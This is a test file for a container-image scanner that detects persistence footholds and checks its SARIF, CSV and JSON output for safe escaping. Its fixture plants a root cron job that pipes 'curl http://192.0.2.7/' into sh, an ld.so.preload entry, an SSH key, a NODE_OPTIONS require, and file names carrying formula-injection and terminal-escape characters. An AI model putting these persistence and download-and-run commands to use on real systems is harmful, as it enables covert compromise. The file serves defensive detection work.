import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neverCancelled } from '../../../src/engine/base/cancellation';
import { renderFootholds, type FoundFootholds } from '../../../src/engine/output/footholds/render-footholds';
import { footholdList } from '../../../src/engine/query/footholds/kept-footholds';
import { imageRow } from '../../../src/engine/query/library/image-rows';
import { footholdFormats, workingFormats, type FootholdFormat } from '../../../src/shared/formats';
import { writeDockerArchive } from '../../engine-support/made-archive';
import { schemaCheck } from '../../engine-support/json-schema';
import { repositoryFile } from '../../fixtures-folder';
import { libraryWith, type TemporaryLibrary } from '../report/sample-library';

const schemas = repositoryFile('../shared/schemas');
const folder = mkdtempSync(join(tmpdir(), 'stratigraph-foothold-formats-'));
let held: TemporaryLibrary;
let images: readonly FoundFootholds[];

beforeAll(async () => {
  const archive = join(folder, '=cmd\u202e.tar');
  const layer = [
    { name: 'etc/ld.so.preload', content: '/tmp/x\u202e\u001b[31m.so\n' },
    { name: 'etc/cron.d/=1+1 %2e\u0007', content: '* * * * * root curl -s http://192.0.2.7/ | sh\n' },
    { name: 'root/.ssh/authorized_keys', content: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x@y\n' },
  ];
  await writeDockerArchive(archive, [{ tag: 'odd:1', env: ['NODE_OPTIONS=--require /tmp/x.js'], layers: [layer] }]);
  held = await libraryWith(archive);
  const { library, imageId } = held;
  images = [{ image: imageRow(library, imageId), found: await footholdList(library, imageId, neverCancelled) }];
});
afterAll(() => {
  held.remove();
  rmSync(folder, { recursive: true });
});

const written = (format: FootholdFormat, locale: 'en' | 'ja' = 'en'): string =>
  renderFootholds(format, { images, left: null, locale, version: '0.1.0' });

interface Run {
  readonly tool: { readonly driver: { readonly rules: readonly Readonly<Record<string, unknown>>[] } };
  readonly results: readonly Readonly<Record<string, unknown>>[];
}

describe('footholds for other programs', () => {
  it.skipIf(!existsSync(schemas))('as SARIF 2.1.0 keep to its schema', () => {
    const path = join(schemas, 'sarif', 'sarif-2.1', 'schema', 'sarif-schema-2.1.0.json');
    const sarif = Object.entries(JSON.parse(readFileSync(path, 'utf8')) as object);
    // The schema is of draft 4, whose `id` this checker does not know.
    const check = schemaCheck('7').compile(
      Object.fromEntries(sarif.filter(([name]) => name !== 'id' && name !== '$schema')),
    );
    expect([check(JSON.parse(written('sarif'))), check.errors]).toEqual([true, null]);
    expect(check({ version: '2.1.0' })).toBe(false);
  });

  it('as SARIF have a rule for each that matched, with its techniques, and a result with place and layer for each', () => {
    const { runs } = JSON.parse(written('sarif')) as { readonly runs: readonly Run[] };
    const [{ tool, results } = { tool: { driver: { rules: [] } }, results: [] }] = runs;
    const footholds = images.flatMap(({ found }) => found.footholds);
    expect(results.map(({ ruleId }) => ruleId)).toEqual(footholds.map(({ rule }) => `foothold/${rule}`));
    expect(footholds.length).toBeGreaterThanOrEqual(4);
    const preload = tool.driver.rules.find(({ id }) => id === 'foothold/ld-so-preload');
    expect(preload).toMatchObject({
      shortDescription: { text: 'Library loaded into every program' },
      properties: { tags: ['security', 'foothold', 'T1574.006'] },
    });
    expect(results.find(({ ruleId }) => ruleId === 'foothold/ld-so-preload')).toMatchObject({
      message: { text: 'Library loaded into every program: /tmp/x\\u{202e}\\u{1b}[31m.so' },
      locations: [{ physicalLocation: { artifactLocation: { uri: 'etc/ld.so.preload' }, region: { startLine: 1 } } }],
      properties: { layer: 1, state: 'present', verdict: 'not-checkable', triage: 'open', confidence: 'high' },
    });
    expect(written('sarif', 'ja')).toContain('すべてのプログラム');
  });

  it('as CSV have a row for each, and no cell is a formula', () => {
    const lines = written('csv').trim().split('\r\n');
    const footholds = images.flatMap(({ found }) => found.footholds);
    expect(lines[0]).toMatch(/^id,rule,severity,confidence,attack,title,image,evidence,kind,layer,step,path,/);
    expect(lines.slice(1).map((line) => line.split(',').slice(0, 2))).toEqual(
      footholds.map(({ id, rule }) => [id, rule]),
    );
    expect(lines.slice(1).every((line) => line.includes(",'=cmd\\u{202e}.tar,"))).toBe(true);
    expect(written('csv')).not.toMatch(/(?:^|,)"?[=+@-]/m);
  });

  it('as JSON keep to the published schema, and say how many a filter left out', () => {
    const schema = JSON.parse(readFileSync(repositoryFile('docs/schemas/footholds-1.schema.json'), 'utf8')) as object;
    const check = schemaCheck('2020-12').compile(schema);
    expect([check(JSON.parse(written('json'))), check.errors]).toEqual([true, null]);
    const some = JSON.parse(renderFootholds('json', { images, left: 3, locale: 'en', version: '0' })) as object;
    expect([check(some), some]).toMatchObject([true, { left: 3 }]);
  });

  it.each(workingFormats(footholdFormats))('as %s have no character that a terminal obeys', (format) => {
    expect(written(format)).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u202e]/);
  });
});
